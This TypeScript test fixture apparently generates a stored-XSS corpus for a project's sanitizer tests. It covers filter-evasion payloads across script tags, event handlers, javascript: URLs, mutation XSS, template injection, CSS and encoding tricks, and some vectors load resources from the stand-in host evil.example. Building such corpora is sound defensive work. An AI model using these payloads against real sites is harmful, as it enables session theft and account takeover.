/**
 * SECURITY T23: the stored-XSS corpus. Written for this project, using DOMPurify's expect fixtures
 * and the OWASP XSS Filter Evasion cheat sheet only as a checklist of techniques (nothing copied).
 *
 * Every vector that would run code calls `window.__xss(<id>)` (the spec defines it in an init
 * script and records each call), never alert(). `X` below stands for that call; `XQ` for it
 * inside a single-quoted JS string (`__xss(7)` has no quotes, so both are the same text today).
 * Vectors that run nothing on their own (base, meta refresh, CSS, external loads) are there to see
 * whether they survive: a navigation, a request to another host or a DOM scan finding fails the test.
 */

export type Vector = { id: number; family: string; html: string };

type Template = { family: string; make: (x: string, id: number) => string };

const t = (family: string, make: (x: string, id: number) => string): Template => ({ family, make });

/** The string the page must never run: a call of the recorder with the vector's id. */
export const callOf = (id: number) => `__xss(${id})`;

/** HTML-entity encodings of a whole string, to hide 'javascript:' and the call from naive filters. */
const dec = (s: string) => [...s].map((c) => `&#${c.codePointAt(0)};`).join('');
const hex = (s: string) => [...s].map((c) => `&#x${c.codePointAt(0)!.toString(16)};`).join('');
const padDec = (s: string) => [...s].map((c) => `&#000${c.codePointAt(0)}`).join('');
const jsHex = (s: string) => [...s].map((c) => `\\x${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');
const jsUni = (s: string) => [...s].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');
const b64 = (s: string) => Buffer.from(s, 'utf8').toString('base64');
const fromCodes = (s: string) => `eval(String.fromCharCode(${[...s].map((c) => c.charCodeAt(0)).join(',')}))`;

/** 1. Script elements in their many spellings. */
const scripts: Template[] = [
  t('script', (x) => `<script>${x}</script>`),
  t('script', (x) => `<SCRIPT>${x}</SCRIPT>`),
  t('script', (x) => `<ScRiPt >${x}</sCrIpT >`),
  t('script', (x) => `<script type="text/javascript">${x};</script>`),
  t('script', (x) => `<script type=module>${x}</script>`),
  t('script', (x) => `<script/x>${x}</script>`),
  t('script', (x) => `<script\n>${x}</script\n>`),
  t('script', (x) => `<<script>${x}//<</script>`),
  t('script', (x) => `<script src="data:text/javascript,${x}"></script>`),
  t('script', (x) => `<script src=data:,${x}></script>`),
  t('script', (x) => `<script>/*</script><script>*/${x}</script>`),
  t('script', (x) => `<scr<script>ipt>${x}</scr</script>ipt>`),
  t('script', (x) => `<script>setTimeout('${x}')</script>`),
  t('script', (x) => `<script>eval(atob('${b64(x)}'))</script>`),
  t('script', (x) => `<script>${fromCodes(x)}</script>`),
  t('script', (x) => `<script>\\u005f\\u005fxss${x.slice(5)}</script>`),
  t('script', (x) => `<script>window['__x'+'ss'](${x.match(/\d+/)![0]})</script>`),
  t('script', (x) => `<script>location='javascript:${x}'</script>`),
  t('script', (x) => `<script>document.write('<img src=x onerror=${x}>')</script>`),
  t('script', (x) => `<svg><script>${x}</script></svg>`),
  t('script', (x) => `<svg><script href="data:,${x}"/></svg>`),
  t('script', (x) => `<svg><script xlink:href="data:,${x}"></script></svg>`),
  t('script', (x) => `<math><script>${x}</script></math>`),
  t('script', (x) => `<script>${x}</script`),
  t('script', (x) => `<script\u000c>${x}</script>`),
];

/** 2. Event handlers on the common elements (each fires without the reader doing anything, or on the spec's focus/hover/click). */
const handlers: Template[] = [
  t('handler', (x) => `<img src=x onerror=${x}>`),
  t('handler', (x) => `<IMG SRC=x OnErRoR=${x}>`),
  t('handler', (x) => `<img src onerror="${x}">`),
  t('handler', (x) => `<img src=/ onerror='${x}'>`),
  t('handler', (x) => `<img/src=x/onerror=${x}>`),
  t('handler', (x) => `<img src=x onerror\n=\n${x}>`),
  t('handler', (x) => `<img src=x onerror=${x}//`),
  t('handler', (x) => `<img """><script>${x}</script>">`),
  t('handler', (x) => `<img src="x` + "`" + `onerror=${x}` + "`" + `">`),
  t('handler', (x) => `<img src=x:x onerror=&#x5f;&#x5f;xss${x.slice(5)}>`),
  t('handler', (x) => `<img src=x onload=${x} onerror=${x}>`),
  t('handler', (x) => `<image src=x onerror=${x}>`),
  t('handler', (x) => `<svg onload=${x}>`),
  t('handler', (x) => `<svg/onload=${x}>`),
  t('handler', (x) => `<svg><g onload=${x}></g></svg>`),
  t('handler', (x) => `<svg><animate onbegin=${x} attributeName=x dur=1s>`),
  t('handler', (x) => `<svg><set onbegin=${x} attributeName=x to=1>`),
  t('handler', (x) => `<svg><image href=x onerror=${x} />`),
  t('handler', (x) => `<body onload=${x}>`),
  t('handler', (x) => `<body onpageshow=${x}>`),
  t('handler', (x) => `<body onfocus=${x}>`),
  t('handler', (x) => `<details open ontoggle=${x}>`),
  t('handler', (x) => `<details ontoggle=${x}><summary>more</summary>x</details>`),
  t('handler', (x) => `<video src=x onerror=${x}></video>`),
  t('handler', (x) => `<video><source onerror=${x}></video>`),
  t('handler', (x) => `<audio src=x onerror=${x}>`),
  t('handler', (x) => `<audio controls><source src=x onerror="${x}"></audio>`),
  t('handler', (x) => `<input autofocus onfocus=${x}>`),
  t('handler', (x) => `<input onblur=${x} autofocus><input autofocus>`),
  t('handler', (x) => `<input type=image src=x onerror=${x}>`),
  t('handler', (x) => `<select autofocus onfocus=${x}>`),
  t('handler', (x) => `<textarea autofocus onfocus=${x}></textarea>`),
  t('handler', (x) => `<keygen autofocus onfocus=${x}>`),
  t('handler', (x) => `<button onclick=${x}>Show more</button>`),
  t('handler', (x) => `<button onfocus=${x} autofocus>x</button>`),
  t('handler', (x) => `<a onmouseover=${x}>hover me</a>`),
  t('handler', (x) => `<div onmouseenter=${x} style="display:block;width:100%;height:40px">x</div>`),
  t('handler', (x) => `<div onpointerover=${x}>x</div>`),
  t('handler', (x) => `<p onclick=${x}>click</p>`),
  t('handler', (x) => `<span tabindex=0 onfocus=${x}>x</span>`),
  t('handler', (x) => `<marquee onstart=${x}>x</marquee>`),
  t('handler', (x) => `<marquee loop=1 width=0 onfinish=${x}>x</marquee>`),
  t('handler', (x) => `<object data=x onerror=${x}></object>`),
  t('handler', (x) => `<iframe onload=${x}></iframe>`),
  t('handler', (x) => `<form><button formaction=x onfocus=${x} autofocus>x</button></form>`),
  t('handler', (x) => `<table background=x onerror=${x}><td>x</td></table>`),
  t('handler', (x) => `<style onload=${x}></style>`),
  t('handler', (x) => `<link rel=stylesheet href=x onerror=${x}>`),
  t('handler', (x) => `<x contenteditable onfocus=${x} autofocus>x</x>`),
  t('handler', (x) => `<x onanimationstart=${x} style="animation-name:spin">x</x>`),
  t('handler', (x) => `<x ontransitionend=${x}>x</x>`),
  t('handler', (x) => `<dialog open onclose=${x}><form method=dialog><button>x</button></form></dialog>`),
  t('handler', (x) => `<img src=x onerror=window.__xss.call(null,${x.match(/\d+/)![0]})>`),
  t('handler', (x) => `<img src=x onerror=${jsUni('__xss')}(${x.match(/\d+/)![0]})>`),
  t('handler', (x) => `<img src=x onerror=eval('${jsHex(x)}')>`),
  t('handler', (x) => `<img src=x onerror="${dec(x)}">`),
  t('handler', (x) => `<img src=x onerror=top['__xss'](${x.match(/\d+/)![0]})>`),
  t('handler', (x) => `<img src=x onerror=${x}>`.toUpperCase().replace(/__XSS/, '__xss')),
  t('handler', (x) => `<svg><a><rect width=99 height=99 /><animate attributeName=href values=javascript:${x} /></a></svg>`),
  t('handler', (x) => `<embed src=x onerror=${x}>`),
];

/** 3. Script URLs in every URL attribute, in many spellings. */
const JS_SPELLINGS: ((x: string) => string)[] = [
  (x) => `javascript:${x}`,
  (x) => `JaVaScRiPt:${x}`,
  (x) => ` javascript:${x}`,
  (x) => `java\tscript:${x}`,
  (x) => `java&#x09;script:${x}`,
  (x) => `java&#10;script:${x}`,
  (x) => `jav&#x0D;ascript:${x}`,
  (x) => `${dec('javascript:')}${x}`,
  (x) => `${hex('javascript:')}${x}`,
  (x) => `${padDec('javascript:')}${x}`,
  (x) => `javascript&colon;${x}`,
  (x) => `javascript&#58${x}`,
  (x) => `&#1;javascript:${x}`,
  (x) => `\u0000javascript:${x}`,
  (x) => `javascript://%0a${x}`,
  (x) => `javascript:/*--></title></style></textarea></script><svg/onload=${x}>*/${x}`,
  (x) => `vbscript:${x}`,
  (x) => `VBSCRIPT:msgbox(${x.match(/\d+/)![0]})`,
  (x) => `data:text/html,<script>${x}</script>`,
  (x) => `data:text/html;base64,${b64(`<script>${x}</script>`)}`,
  (x) => `DaTa:text/html,<svg onload=${x}>`,
  (x) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${x}'/>`,
];

const urlSinks: Template[] = [
  ...JS_SPELLINGS.map((s) => t('url-href', (x) => `<a href="${s(x)}">Show more</a>`)),
  t('url-href', (x) => `<a href=javascript:${x}>x</a>`),
  t('url-href', (x) => `<a href='javascript:${x}' target=_blank>x</a>`),
  t('url-href', (x) => `<a href="jav&#x61;script:${x}">x</a>`),
  t('url-href', (x) => `<a href="&#106;avascript:${x}">x</a>`),
  t('url-href', (x) => `<a href="javascript\u0000:${x}">x</a>`),
  t('url-href', (x) => `<a href="javascript\u200b:${x}">x</a>`),
  t('url-href', (x) => `<a href="http://evil.example/${x}" ping="http://evil.example/ping">x</a>`),
  t('url-href', (x) => `<area href="javascript:${x}">`),
  t('url-src', (x) => `<iframe src="javascript:${x}"></iframe>`),
  t('url-src', (x) => `<iframe src="JaVaScRiPt:parent.${x}"></iframe>`),
  t('url-src', (x) => `<iframe src="data:text/html,<script>parent.${x}</script>"></iframe>`),
  t('url-src', (x) => `<frameset><frame src="javascript:${x}"></frameset>`),
  t('url-src', (x) => `<embed src="javascript:${x}">`),
  t('url-src', (x) => `<embed src="data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${x}"/>`)}">`),
  t('url-src', (x) => `<object data="javascript:${x}"></object>`),
  t('url-src', (x) => `<object data="data:text/html;base64,${b64(`<script>parent.${x}</script>`)}"></object>`),
  t('url-src', (x) => `<img src="javascript:${x}">`),
  t('url-src', (x) => `<img dynsrc="javascript:${x}">`),
  t('url-src', (x) => `<img lowsrc="javascript:${x}">`),
  t('url-src', (x) => `<input type=image src="javascript:${x}">`),
  t('url-src', (x) => `<img src=//evil.example/${x.replace(/\W/g, '')}.png>`),
  t('url-src', (x) => `<video poster=javascript:${x}>`),
  t('url-action', (x) => `<form action="javascript:${x}"><button>Show more</button></form>`),
  t('url-action', (x) => `<form><button formaction="javascript:${x}">Show more</button></form>`),
  t('url-action', (x) => `<form><input type=submit formaction=JaVaScRiPt:${x} value="Show more"></form>`),
  t('url-action', (x) => `<form id=f1></form><button form=f1 formaction="javascript:${x}">Show more</button>`),
  t('url-action', (x) => `<isindex action="javascript:${x}" type=image>`),
  t('url-xlink', (x) => `<svg><a xlink:href="javascript:${x}"><text x=20 y=20>Show more</text></a></svg>`),
  t('url-xlink', (x) => `<svg><a href="javascript:${x}"><circle r=40 /></a></svg>`),
  t('url-xlink', (x) => `<svg><use href="data:image/svg+xml,<svg id='a' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${x}'/></svg>#a"/></svg>`),
  t('url-xlink', (x) => `<math><maction actiontype=statusline xlink:href="javascript:${x}">x</maction></math>`),
  t('url-xlink', (x) => `<math href="javascript:${x}">click</math>`),
  t('url-xlink', (x) => `<svg><a><animate attributeName=xlink:href to=javascript:${x} /><text y=20>x</text></a></svg>`),
];

/** 4. iframes with srcdoc and other documents-in-a-document. */
const frames: Template[] = [
  t('srcdoc', (x) => `<iframe srcdoc="<script>parent.${x}</script>"></iframe>`),
  t('srcdoc', (x) => `<iframe srcdoc="&lt;img src=x onerror=parent.${x}&gt;"></iframe>`),
  t('srcdoc', (x) => `<iframe srcdoc='<svg onload=top.${x}>'></iframe>`),
  t('srcdoc', (x) => `<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>parent.${x}</script>"></iframe>`),
  t('srcdoc', (x) => `<iframe srcdoc="${hex(`<script>parent.${x}</script>`)}"></iframe>`),
  t('srcdoc', (x) => `<portal src="javascript:${x}"></portal>`),
];

/** 5. Mutation XSS: parser differentials (noscript, raw-text elements, templates, foreign content). */
const mxss: Template[] = [
  t('mxss', (x) => `<noscript><p title="</noscript><img src=x onerror=${x}>"></noscript>`),
  t('mxss', (x) => `<noscript><style></noscript><img src=x onerror=${x}></style></noscript>`),
  t('mxss', (x) => `<style><img src="</style><img src=x onerror=${x}>"></style>`),
  t('mxss', (x) => `<textarea><img title="</textarea><img src=x onerror=${x}>"></textarea>`),
  t('mxss', (x) => `<title><a title="</title><img src=x onerror=${x}>"></title>`),
  t('mxss', (x) => `<xmp><p title="</xmp><svg onload=${x}>"></xmp>`),
  t('mxss', (x) => `<iframe><p title="</iframe><img src=x onerror=${x}>"></iframe>`),
  t('mxss', (x) => `<noembed><img title="</noembed><img src=x onerror=${x}>"></noembed>`),
  t('mxss', (x) => `<noframes><p title="</noframes><img src=x onerror=${x}>"></noframes>`),
  t('mxss', (x) => `<plaintext><img src=x onerror=${x}>`),
  t('mxss', (x) => `<template><img src=x onerror=${x}></template>`),
  t('mxss', (x) => `<template><script>${x}</script></template>`),
  t('mxss', (x) => `<svg></p><style><a id="</style><img src=1 onerror=${x}>">`),
  t('mxss', (x) => `<math><mtext><table><mglyph><style><img src=x onerror=${x}>`),
  t('mxss', (x) => `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=${x}>">`),
  t('mxss', (x) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${x}>`),
  t('mxss', (x) => `<svg><style><img src=x onerror=${x}></style></svg>`),
  t('mxss', (x) => `<svg><p><style><g title="</style><img src=x onerror=${x}>">`),
  t('mxss', (x) => `<math><style><img src=x onerror=${x}></style></math>`),
  t('mxss', (x) => `<svg><foreignObject><img src=x onerror=${x}></foreignObject></svg>`),
  t('mxss', (x) => `<svg><desc><img src=x onerror=${x}></desc></svg>`),
  t('mxss', (x) => `<svg><title><img src=x onerror=${x}></title></svg>`),
  t('mxss', (x) => `<math><annotation-xml encoding="text/html"><img src=x onerror=${x}></annotation-xml></math>`),
  t('mxss', (x) => `<svg><![CDATA[><img src=x onerror=${x}>]]></svg>`),
  t('mxss', (x) => `<!--><img src=x onerror=${x}>-->`),
  t('mxss', (x) => `<!-- --!><img src=x onerror=${x}> -->`),
  t('mxss', (x) => `<?xml-stylesheet ><img src=x onerror=${x}>?>`),
  t('mxss', (x) => `<a title="&lt;/a&gt;&lt;img src=x onerror=${x}&gt;">x</a>`),
  t('mxss', (x) => `<div id="1"><form id="foobar"></form><button form="foobar" formaction="javascript:${x}">Show more</button></div>`),
  t('mxss', (x) => `<table><td><svg><desc><table><td><img src=x onerror=${x}>`),
  t('mxss', (x) => `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${x}>">`),
  t('mxss', (x) => `<a href="#">x</a><img src=x onerror=${x} id=attributes>`),
  t('mxss', (x) => `<form><input name=attributes><input name=removeAttribute></form><img src=x onerror=${x}>`),
  t('mxss', (x) => `<img src=x name=getElementById onerror=${x}>`),
  t('mxss', (x) => `<svg><style>&lt;/style&gt;&lt;img src=x onerror=${x}&gt;</style></svg>`),
  t('mxss', (x) => `<listing>&lt;img src=x onerror=${x}&gt;</listing>`),
  t('mxss', (x) => `<div><template shadowrootmode=open><img src=x onerror=${x}></template></div>`),
  t('mxss', (x) => `<math><mi xlink:href="javascript:${x}">x</mi></math>`),
];

/** 6. Strings that break out of an attribute, a JS string, a JSON state block or a comment. */
const breaking: Template[] = [
  t('attr-break', (x) => `"><img src=x onerror=${x}>`),
  t('attr-break', (x) => `'><img src=x onerror=${x}>`),
  t('attr-break', (x) => `" onmouseover="${x}" x="`),
  t('attr-break', (x) => `' onfocus='${x}' autofocus x='`),
  t('attr-break', (x) => `\` onmouseover=${x} x=\``),
  t('attr-break', (x) => `" autofocus onfocus=${x} "`),
  t('attr-break', (x) => `"/><svg onload=${x}>`),
  t('js-break', (x) => `'-${x}-'`),
  t('js-break', (x) => `";${x};//`),
  t('js-break', (x) => `\\';${x};//`),
  t('js-break', (x) => `</script><script>${x}</script>`),
  t('js-break', (x) => `</SCRIPT ><svg onload=${x}>`),
  t('js-break', (x) => `\${${x}}`),
  t('json-break', (x) => `</script><img src=x onerror=${x}>`),
  t('json-break', (x) => `"}]}</script><script>${x}</script>`),
  t('json-break', (x) => `<!--<script>${x}</script>`),
  t('json-break', (x) => `<!--</script><script>${x}//-->`),
  t('json-break', (x) => `\u2028${x}\u2029</script><script>${x}</script>`),
  t('json-break', (x) => `\\u003c/script\\u003e<script>${x}</script>`),
  t('json-break', (x) => `</scr\u0000ipt><script>${x}</script>`),
  t('json-break', (x) => `]]></script><script>${x}</script>`),
  t('markdown', (x) => `[Show more](javascript:${x})`),
  t('markdown', (x) => `[x](JaVaScRiPt:${x} "title")`),
  t('markdown', (x) => `![x](x" onerror="${x})`),
  t('markdown', (x) => `<javascript:${x}>`),
  t('markdown', (x) => `[x]: javascript:${x}\n\n[Show more][x]`),
  t('markdown', (x) => `\`\`\`html\n<img src=x onerror=${x}>\n\`\`\``),
  t('markdown', (x) => `**<img src=x onerror=${x}>**`),
  t('markdown', (x) => `> <svg onload=${x}>`),
  t('template', (x) => `{{constructor.constructor('${x}')()}}`),
  t('template', (x) => `{{$on.constructor('${x}')()}}`),
  t('template', (x) => `\${${x}}`),
  t('template', (x) => `#{${x}}`),
  t('template', (x) => `<%= ${x} %>`),
  t('template', (x) => `{{'a'.constructor.prototype.charAt=[].join;$eval('x=${x}')}}`),
  t('template', (x) => `<div ng-app ng-csp><div ng-focus="${x}" tabindex=0>x</div></div>`),
  t('template', (x) => `<div v-html="'<img src=x onerror=${x}>'"></div>`),
  t('template', (x) => `<div data-bind="html: '<img src=x onerror=${x}>'"></div>`),
  t('template', (x) => `{{#with "s" as |a|}}{{a.constructor '${x}'}}{{/with}}`),
];

/** 7. CSS: style attributes, expressions, imports, and style-based exfiltration. */
const css: Template[] = [
  t('css', (x) => `<div style="background:url(javascript:${x})">x</div>`),
  t('css', (x) => `<div style="width:expression(${x})">x</div>`),
  t('css', (x) => `<div style="xss:ex/**/pression(${x})">x</div>`),
  t('css', (x) => `<div style="behavior:url(x.htc);-moz-binding:url(http://evil.example/${x.replace(/\W/g, '')}.xml)">x</div>`),
  t('css', (x) => `<style>@import 'http://evil.example/${x.replace(/\W/g, '')}.css';</style>`),
  t('css', (x) => `<style>@im\\port'\\ja\\vasc\\ript:${x}';</style>`),
  t('css', (x) => `<style>body{background:url("javascript:${x}")}</style>`),
  t('css', (x) => `<style>li{list-style-image:url("javascript:${x}")}</style><ul><li>x</li></ul>`),
  t('css', (x) => `<style>*{background:url(//evil.example/${x.replace(/\W/g, '')})}</style>`),
  t('css', (x) => `<div style="position:fixed;inset:0;z-index:99999" onmouseover=${x}>cover</div>`),
  t('css', (x) => `<p style="font-family:'</style><img src=x onerror=${x}>'">x</p>`),
  t('css', (x) => `<link rel=stylesheet href="data:text/css,*{background:url(//evil.example/${x.replace(/\W/g, '')})}">`),
  t('css', (x) => `<svg><style>@import url(//evil.example/${x.replace(/\W/g, '')});</style></svg>`),
  t('css', (x) => `<div style="animation:x 1s" onanimationend=${x}>x</div>`),
];

/** 8. Head-level tags that change how the page resolves, refreshes or loads. */
const headTags: Template[] = [
  t('base', (x) => `<base href="javascript:${x}//">`),
  t('base', (x) => `<base href="http://evil.example/${x.replace(/\W/g, '')}/">`),
  t('meta', (x) => `<meta http-equiv="refresh" content="0;url=javascript:${x}">`),
  t('meta', (x) => `<meta http-equiv="refresh" content="0;url=data:text/html;base64,${b64(`<script>${x}</script>`)}">`),
  t('meta', (x) => `<meta http-equiv="refresh" content="0; URL=http://evil.example/${x.replace(/\W/g, '')}">`),
  t('meta', (x) => `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'"><script>${x}</script>`),
  t('link', (x) => `<link rel=import href="data:text/html,<script>${x}</script>">`),
  t('link', (x) => `<link rel=prefetch href=//evil.example/${x.replace(/\W/g, '')}>`),
  t('link', (x) => `<link rel=preload as=script href="data:,${x}">`),
  t('link', (x) => `<link rel=modulepreload href="data:text/javascript,${x}">`),
];

/** 9. Unicode, NUL, zero-width and encoding tricks. */
const unicode: Template[] = [
  t('unicode', (x) => `<img src=x one\u0000rror=${x}>`),
  t('unicode', (x) => `<scr\u0000ipt>${x}</scr\u0000ipt>`),
  t('unicode', (x) => `<img src=x \u200bonerror=${x}>`),
  t('unicode', (x) => `<img\u00a0src=x onerror=${x}>`),
  t('unicode', (x) => `<img\u3000src=x\u3000onerror=${x}>`),
  t('unicode', (x) => `\uff1cscript\uff1e${x}\uff1c/script\uff1e`),
  t('unicode', (x) => `\uFE64img src=x onerror=${x}\uFE65`),
  t('unicode', (x) => `<a href="\u0001javascript:${x}">x</a>`),
  t('unicode', (x) => `<a href="javas\u200dcript:${x}">x</a>`),
  t('unicode', (x) => `<a href="javascript\uff1a${x}">x</a>`),
  t('unicode', (x) => `\u202e>tpircs/<${x}>tpircs<`),
  t('unicode', (x) => `<img src=x onerror=\\u005f\\u005fxss${x.slice(5)}>`),
  t('unicode', (x) => `%3Cscript%3E${x}%3C%2Fscript%3E`),
  t('unicode', (x) => `%253Cimg%2520src%253Dx%2520onerror%253D${x}%253E`),
  t('unicode', (x) => `&lt;img src=x onerror=${x}&gt;`),
  t('unicode', (x) => `&amp;lt;script&amp;gt;${x}&amp;lt;/script&amp;gt;`),
  t('unicode', (x) => `\\x3cscript\\x3e${x}\\x3c/script\\x3e`),
  t('unicode', (x) => `+ADw-script+AD4-${x}+ADw-/script+AD4-`),
  t('unicode', (x) => `<\u0131mg src=x onerror=${x}>`),
  t('unicode', (x) => `<img src=x onerror=${x}>\ud800`),
];

const ALL: Template[] = [...scripts, ...handlers, ...urlSinks, ...frames, ...mxss, ...breaking, ...css, ...headTags, ...unicode];

/** The corpus: ids from 1, each payload calling `__xss(id)`. */
export const VECTORS: Vector[] = ALL.map((tpl, i) => ({ id: i + 1, family: tpl.family, html: tpl.make(callOf(i + 1), i + 1) }));

/** A short visible token before each vector, so a page can be checked to have rendered what was stored. */
export const markerOf = (id: number) => `xv${id}q`;

/** Cuts to `max` code points (vectors are ASCII apart from the unicode family). */
export function fit(s: string, max: number): string {
  const cps = [...s];
  return cps.length <= max ? s : cps.slice(0, max).join('');
}

/** The vector with its marker, cut to a field's limit (the call stays inside when the field allows it). */
export function labelled(v: Vector, max: number, min = 0): string {
  const s = fit(`${markerOf(v.id)} ${v.html}`, max);
  return [...s].length >= min ? s : `${s} ${'·'.repeat(min - [...s].length)}`;
}

/** As many whole labelled vectors as fit in `max` (at least one, cut), separated by blank lines. */
export function pack(vs: Vector[], max: number, min = 0): { text: string; ids: number[] } {
  let text = '';
  const ids: number[] = [];
  for (const v of vs) {
    const next = `${text}${text ? '\n\n' : ''}${markerOf(v.id)} ${v.html}`;
    if ([...next].length > max) break;
    text = next;
    ids.push(v.id);
  }
  if (!ids.length) return { text: labelled(vs[0]!, max, min), ids: [vs[0]!.id] };
  return { text: [...text].length >= min ? text : `${text} ${'·'.repeat(min - [...text].length)}`, ids };
}

/** Lone surrogates replaced (U+FFFD), so the text can go into a URL. */
export const wellFormed = (s: string) => s.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, '\ufffd');

/** Consecutive groups of `size`. */
export function batches<T>(list: T[], size: number): T[][] {
  const out: T[][] = [];
  for (let i = 0; i < list.length; i += size) out.push(list.slice(i, i + size));
  return out;
}

/** SECURITY T23's budget: at most this many distinct vectors on one page load. */
export const BATCH_SIZE = 50;
